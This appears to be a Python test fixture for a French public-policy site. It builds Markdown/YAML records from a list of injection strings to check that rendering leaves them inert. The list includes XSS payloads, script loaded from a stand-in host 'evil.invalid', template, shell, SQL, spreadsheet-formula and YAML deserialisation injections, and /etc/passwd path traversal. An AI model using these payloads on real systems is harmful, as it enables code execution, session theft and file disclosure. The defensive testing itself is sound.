"""What people try who want a page to run, load or hide something: each of these is only text.

They are our own, one or more for each way that is known: markup, attributes, addresses, templates,
styles, Markdown, YAML, CSV, calendars, terminals. ``window.__pwned`` is what a browser would tell.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from typing import Final

RUN: Final = "window.__pwned=1"

ATTACKS: Final = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</template><img src=x onerror={RUN}>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script><![CDATA[",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script\t>{RUN}</script x>".replace("\t", " "),
    f"<<script>{RUN};//<</script>",
    "<script src=//evil.invalid/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"`><img src=x onerror={RUN}>",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}',
    f"' onmouseover='{RUN}' x='",
    f"x onmouseover={RUN} y=",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x>",
    f"<math><mtext><style><img src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<body onload={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.invalid/x.swf>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<form action=//evil.invalid/><button>Envoyer</button></form>",
    "<a href=javascript:alert(1)>lien</a>",
    "<style>@import'//evil.invalid/x.css';</style>",
    "<p style=background:url(//evil.invalid/x)>",
    "expression(alert(1)); -moz-binding:url(//evil.invalid)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;b&amp;gt; &copy; &nbsp;fin",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "javascript:alert(1)",
    "JaVaScRiPt&#58;alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "[x](javascript:alert(1))",
    "![x](javascript:alert(1))",
    f"[x](https://example.org/ '\" onclick={RUN}')",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)",
    "**gras** _italique_ `code` ~~barré~~",
    "# Titre - liste 1. numéro > citation | tableau |",
    "{{ 7 * 7 }} ${7*7} #{7*7} <%= 7*7 %>",
    "{% include 'main.html' %}{# rien #}",
    "{{ config.__class__.__init__.__globals__ }}",
    "{{ block.records }} {{ setting.publisher }}",
    "__import__('os').system('id') `id` $(id) ; id | id",
    "fpslot0content0 fp-slot \x7bslot\x7d %s %(x)s {0} {x}",
    "=SOMME(A1:A9)",
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    '=HYPERLINK("//evil.invalid";"clic")',
    "BEGIN:VEVENT ; , \\ END:VEVENT",
    "\\nBEGIN:VALARM\\nTRIGGER:-PT0M\\nEND:VALARM",
    'a"; DROP TABLE fiches; --',
    "' OR '1'='1",
    "}} @misc{autre, title = {x}} % \\input{/etc/passwd}",
    "::error file=x,line=1::message %0A::set-output name=x::y",
    "../../etc/passwd ..\\..\\windows",
    "null NaN undefined true [object Object] __proto__ constructor",
    "yes no 12:30:45 010 0x1F 1e3 ~ .inf <<",
    "!!python/object/apply:os.system [id] &a *a",
    "--- ... %YAML 1.1",
    "http://evil.invalid&#47;@example.org",
)
"""Each fits a title."""

HARMLESS: Final = (
    "Une « citation »\u00a0: 12\u202f500\u00a0€, 50\u202f%, déjà\u202f?",
    "Espaces fines\u2009et demi\u2002cadratins\u2003conservés",
    "Trait\u2011d’union insécable, tiret – demi-cadratin — cadratin",
    "👩\u200d💻 👨\u200d👩\u200d👧\u200d👦 🏳\ufe0f\u200d🌈 👩🏽\u200d🚀 ❤\ufe0f\u200d🔥",
    "Drapeaux 🇫🇷 🇧🇪 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "Touches 1\ufe0f\u20e3 #\ufe0f\u20e3 et signes ℹ\ufe0f ✔\ufe0e ☎\ufe0f",
    "مرحبا بالعالم، مختبر الابتكار",
    "می\u200cخواهم خدمات عمومی را بهتر کنم",
    "שלום עולם — ‏מעבדה‎ 2026",
    "नमस्ते क्\u200dष और क्\u200cष",
    "日本語の題名、公共政策",
    "한국어 제목과 漢字",
    "Ελληνικά και Кириллица",
    "ไทยไม่มีช่องว่าง",
    "Zoë, Łukasz, Đặng, Ærø, Ŝaŭdo, İstanbul",
    "e\u0301 e\u0300 n\u0303 (décomposé) et é è ñ (composé)",
    "∀x ∈ ℝ : x² ≥ 0 ⇒ √x², ∑ ≤ ∞, a < b > c & d",
    "Prix < 10 000 € & délai > 3 jours",
    "C’est l’été : « n° 5 », M. Untel, 1er août, p. 12",
    "Symboles © ® ™ § ¶ † ‡ • … ‰ № ½ ⅓ µ Ω",
)
"""What languages, mathematics and typography need: it passes unchanged."""


CRITERIA: Final = (
    *("high-stakes", "transformation", "reintegration", "field-and-actors"),
    "values-and-methods",
)


def quoted(text: str) -> str:
    """A text as YAML has it between single quotes."""
    return "'" + text.replace("'", "''") + "'"


def record_files() -> Mapping[str, str]:
    """A record of each text, in every field that holds text, with its translation: projects, calls
    and events in turn."""
    return dict(_files())


def slug_of(number: int) -> str:
    return f"texte-{number:03}"


TEXTS: Final = (*ATTACKS, *HARMLESS)


def _files() -> Iterator[tuple[str, str]]:
    for number, text in enumerate(TEXTS):
        yield f"{slug_of(number)}/index.fr.md", original(text, number % 3)
        yield f"{slug_of(number)}/index.en.md", translation(text, number % 3)


def original(text: str, kind: int = 0, status: str = "published") -> str:
    said = quoted(text)
    own = (
        ["kind: project", "interventions: [experiment]", "themes: [ageing]"],
        ["kind: call", f"question: {said}", "opens: 2026-11-01", "closes: 2026-12-20"],
        ["kind: event", "starts: 2026-12-01 10:00", "ends: 2026-12-01 12:00", f"place: {said}"],
    )[kind]
    return "\n".join([
        "---", *own, f"status: {status}", f"title: {said}", f"summary: {said}",
        "criteria:", *(f"  {c}: {{answer: 'yes', reason: {said}}}" for c in CRITERIA),
        f"indicators: [{{id: i, name: {said}, value: 1, unit: {said}, date: 2014, source: s}}]",
        f"links: [{{url: 'https://example.org/', label: {said}}}]",
        f"sources: [{{id: s, title: {said}, publisher: {said}, date: 2014, match: stated}}]",
        "verified_on: 2026-11-01", "---",
        "## La situation", "", "Un fait[^s].", "", "```", text, "```", "",
    ])  # fmt: skip


def translation(text: str, kind: int = 0) -> str:
    said = quoted(text)
    own = ([], [f"question: {said}"], [f"place: {said}"])[kind]
    return "\n".join([
        "---", f"title: {said}", f"summary: {said}", *own, "reasons:",
        *(f"  {c}: {said}" for c in CRITERIA),
        f"indicators: {{i: {{name: {said}, unit: {said}}}}}",
        f"labels: {{'https://example.org/': {said}}}", "translation: {state: draft}", "---",
        "## The situation", "", "A fact[^s].", "", "```", text, "```", "",
    ])  # fmt: skip
